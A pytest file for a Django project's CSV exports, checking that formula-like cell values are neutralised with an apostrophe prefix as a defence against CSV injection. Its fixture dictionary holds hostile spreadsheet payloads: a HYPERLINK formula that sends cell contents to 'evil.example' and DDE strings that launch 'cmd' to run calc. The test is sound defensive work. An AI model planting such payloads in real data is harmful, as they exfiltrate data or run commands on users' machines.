"""CSV exports never hand a spreadsheet a formula: OWASP's "CSV injection" defence."""

import csv
import io

import pytest

from networks.exports import spreadsheet_safe
from tests.factories import ActorFactory, LinkFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Clicca")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("key", sorted(HOSTILE))
def test_actors_csv_neutralises_a_formula_in_every_text_cell(client, key):
    payload = HOSTILE[key]
    ActorFactory(
        name=payload,
        slug=f"ostile-{key}",
        municipality=payload,
        province="MI",
        website="https://example.org/",
    )

    (row,) = _rows(client, "/rete/export/attori.csv")

    assert row["nome"] == "'" + payload
    assert row["comune"] == "'" + payload
    # Untouched where no formula can start: the reader gets the data back.
    assert row["provincia"] == "MI"
    assert row["sito_web"] == "https://example.org/"


def test_links_csv_neutralises_formulas_in_names_and_descriptions(client):
    source = ActorFactory(name="=1+1", slug="formula")
    target = ActorFactory(name="Comune di Lodi", slug="comune-di-lodi")
    LinkFactory(source=source, target=target, description="@SUM(A1:A9)")

    (row,) = _rows(client, "/rete/export/legami.csv")

    assert row["da"] == "'=1+1"
    assert row["a"] == "Comune di Lodi"
    assert row["descrizione"] == "'@SUM(A1:A9)"


def test_spreadsheet_safe_keeps_numbers_and_plain_text():
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(-0.25) == -0.25
    assert spreadsheet_safe("Comune di Milano") == "Comune di Milano"
    assert spreadsheet_safe("") == ""
    # A text that merely looks like a negative number is text an attacker chose: prefixed.
    assert spreadsheet_safe("-3") == "'-3"
    assert spreadsheet_safe("\r\n=1") == "'\r\n=1"
